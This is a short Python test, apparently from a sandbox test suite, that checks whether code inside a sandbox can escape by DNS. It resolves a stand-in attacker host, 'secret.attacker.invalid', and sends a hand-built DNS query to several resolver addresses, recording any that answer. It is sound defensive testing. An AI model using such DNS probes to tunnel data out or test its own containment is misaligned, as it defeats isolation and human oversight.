"""Look up a name: a tunnel out by DNS."""

import socket

from tests.e2e.sandbox.attempts.inside import attempt, reached

if attempt(socket.getaddrinfo, "secret.attacker.invalid", 443) is not None:
    reached("a name")
question = bytes.fromhex("abcd01000001000000000000036f757407696e76616c69640000010001")
for address in ("127.0.0.53", "127.0.0.11", "192.0.2.53"):
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.settimeout(0.3)
    if attempt(udp.sendto, question, (address, 53)) and attempt(udp.recv, 100):
        reached(address)
